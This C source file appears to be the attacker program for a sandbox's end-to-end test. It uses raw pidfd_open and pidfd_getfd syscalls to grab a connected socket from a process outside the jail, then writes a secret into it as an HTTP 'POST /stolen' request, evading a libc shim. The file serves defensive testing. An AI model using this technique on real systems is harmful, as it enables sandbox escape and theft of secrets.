/* SPDX-License-Identifier: MIT */
/*
 * fd_steal.c - the attacker of t/e2e/366: takes a connected socket of a
 * process outside the jail (pidfd_open + pidfd_getfd) and writes the
 * secret on it, raw syscall instructions only (no libc wrapper the shim
 * could see). A socket connected outside the jail was never relayed.
 * usage: fd_steal PID FD SECRET; prints one line, exit 0 if written.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static long raw3(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}

int main(int argc, char **argv)
{
	char msg[256];
	long pfd, nfd, w;

	if (argc != 4)
		return 2;
	snprintf(msg, sizeof(msg), "POST /stolen HTTP/1.1\r\nX-Key: %s\r\n\r\n", argv[3]);
	pfd = raw3(434 /* pidfd_open */, atol(argv[1]), 0, 0);
	nfd = pfd < 0 ? pfd : raw3(438 /* pidfd_getfd */, pfd, atol(argv[2]), 0);
	w = nfd < 0 ? nfd : raw3(1 /* write */, nfd, (long)msg, (long)strlen(msg));
	printf("pidfd_open %ld pidfd_getfd %ld write %ld\n", pfd, nfd, w);
	return w > 0 ? 0 : 1;
}
